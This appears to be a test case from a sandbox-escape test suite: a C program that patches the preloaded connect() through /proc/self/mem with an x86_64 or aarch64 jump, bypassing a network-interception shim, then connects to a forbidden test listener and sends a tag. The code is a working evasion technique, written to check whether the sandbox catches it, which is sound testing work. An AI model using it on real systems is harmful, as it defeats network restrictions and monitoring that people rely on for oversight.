// SPDX-License-Identifier: MIT
/*
 * tampering: patch the preloaded connect() through /proc/self/mem (which
 * writes through read-only mappings) so that it jumps to a connect of this
 * program's own (an inline system call), then send the tag to the
 * forbidden listener with an ordinary connect(): every caller in the
 * process, libraries included, now goes around the shim. HOW = libc (the
 * open through libc) or raw (an inline openat system call).
 */
#include <dlfcn.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "case.h"

static int own_connect(int fd, const struct sockaddr *sa, socklen_t len)
{
	return (int)case_raw6(SYS_connect, fd, (long)sa, len, 0, 0, 0);
}

/* An absolute jump to target, in this architecture's code. */
static size_t jump_to(unsigned char *code, uintptr_t target)
{
#if defined(__x86_64__)
	code[0] = 0x48; /* movabs rax, target */
	code[1] = 0xb8;
	memcpy(code + 2, &target, 8);
	code[10] = 0xff; /* jmp rax */
	code[11] = 0xe0;
	return 12;
#elif defined(__aarch64__)
	const uint32_t insns[2] = {0x58000050, 0xd61f0200}; /* ldr x16, #8; br x16 */
	memcpy(code, insns, 8);
	memcpy(code + 8, &target, 8);
	return 16;
#else
#error "proc-mem: no jump for this architecture"
#endif
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	/* The first connect in lookup order: the shim's when it is preloaded. */
	void *first = dlsym(RTLD_DEFAULT, "connect");
	if (!first)
		return 1;
	long fd;
	if (!strcmp(argv[1], "raw"))
		fd = case_raw6(SYS_openat, AT_FDCWD, (long)"/proc/self/mem", O_RDWR, 0, 0, 0);
	else
		fd = open("/proc/self/mem", O_RDWR);
	case_report("open(/proc/self/mem, O_RDWR)", fd);
	if (fd >= 0) {
		unsigned char code[16];
		size_t n = jump_to(code, (uintptr_t)own_connect);
		long w = pwrite((int)fd, code, n, (off_t)(uintptr_t)first);
		case_report("pwrite over connect", w);
	}
	struct sockaddr_storage ss;
	socklen_t len = case_addr4(&ss, "SEC_TCP_PORT");
	int s = socket(AF_INET, SOCK_STREAM, 0);
	int r = connect(s, (struct sockaddr *)&ss, len);
	case_report("connect", r);
	if (r == 0)
		case_send_tag(s);
	return 0;
}
